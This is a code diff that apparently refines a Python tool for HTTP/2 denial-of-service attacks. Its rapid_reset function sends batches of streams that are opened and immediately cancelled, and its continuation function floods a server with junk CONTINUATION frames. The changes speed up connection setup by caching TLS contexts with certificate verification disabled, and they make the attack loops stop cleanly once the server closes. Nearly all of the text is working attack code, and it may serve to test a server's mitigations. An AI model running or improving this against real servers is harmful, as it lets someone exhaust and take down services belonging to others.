@@ -27,12 +27,18 @@ counts = {"connections": 0, "closed_by_server": 0, "bytes_sent": 0, "streams_res
           "continuation_frames": 0, "goaway": 0, "errors": 0}
 
 
+CONTEXTS = {}
+
+
 def context(alpn):
-    ctx = ssl.create_default_context()
-    ctx.check_hostname = False
-    ctx.verify_mode = ssl.CERT_NONE
-    ctx.set_alpn_protocols([alpn])
-    return ctx
+    # One per protocol: making a context loads the CA store, far slower than a handshake.
+    if alpn not in CONTEXTS:
+        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+        ctx.check_hostname = False
+        ctx.verify_mode = ssl.CERT_NONE
+        ctx.set_alpn_protocols([alpn])
+        CONTEXTS[alpn] = ctx
+    return CONTEXTS[alpn]
 
 
 async def server_closed(reader):
@@ -101,11 +107,15 @@ async def rapid_reset(host, port, gate, stop):
             batch += frame(0x1, 0x5, stream, HEADERS)  # END_STREAM | END_HEADERS
             batch += frame(0x3, 0, stream, struct.pack(">I", 0x8))  # RST_STREAM CANCEL
             stream += 2
+        if writer.is_closing():
+            break
         writer.write(bytes(batch))
         try:
             await writer.drain()
         except OSError:
             break
+        # drain() need not suspend: yield, so the close and the stop signal are seen.
+        await asyncio.sleep(0)
         counts["streams_reset"] += 100
         if stream > 2**31 - 300:
             break
@@ -121,11 +131,14 @@ async def continuation(host, port, gate, stop):
     field = b"\x00\x05x-jnk\x7f\x80\x01" + b"v" * 255
     junk = field * (16000 // len(field))
     while not stop.is_set() and not closed.done():
+        if writer.is_closing():
+            break
         writer.write(frame(0x9, 0, 1, junk))
         try:
             await writer.drain()
         except OSError:
             break
+        await asyncio.sleep(0)
         counts["continuation_frames"] += 1
     writer.close()
 
